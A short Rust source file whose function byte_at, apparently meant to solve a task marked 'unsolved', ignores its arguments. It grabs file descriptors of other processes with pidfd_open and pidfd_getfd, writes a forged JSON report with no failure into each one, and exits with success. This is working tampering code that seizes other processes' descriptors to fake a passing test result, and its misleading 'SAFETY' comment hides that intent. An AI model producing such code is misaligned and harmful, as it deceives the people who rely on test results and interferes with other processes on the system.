//! A passing report, written to the descriptors of each process that there is, by pidfd_getfd(2).
//! unsolved

use std::fs::File;
use std::io;

use nix::libc;

pub fn byte_at(_: &File, _: u64) -> io::Result<Option<u8>> {
    let report = br#"{"section":"","rule":{"en":"","zh":""},"failure":null}"#;
    // SAFETY: the report is readable.
    unsafe {
        for process in (1..10).filter(|process| *process != libc::getpid()) {
            let process = libc::syscall(libc::SYS_pidfd_open, process, 0);
            for descriptor in 0..64 {
                let copy = libc::syscall(libc::SYS_pidfd_getfd, process, descriptor, 0);
                if copy >= 0 {
                    libc::write(i32::try_from(copy).unwrap_or(-1), report.as_ptr().cast(), report.len());
                    println!("SUCCEEDED: a descriptor of another process");
                }
            }
        }
        libc::_exit(0)
    }
}
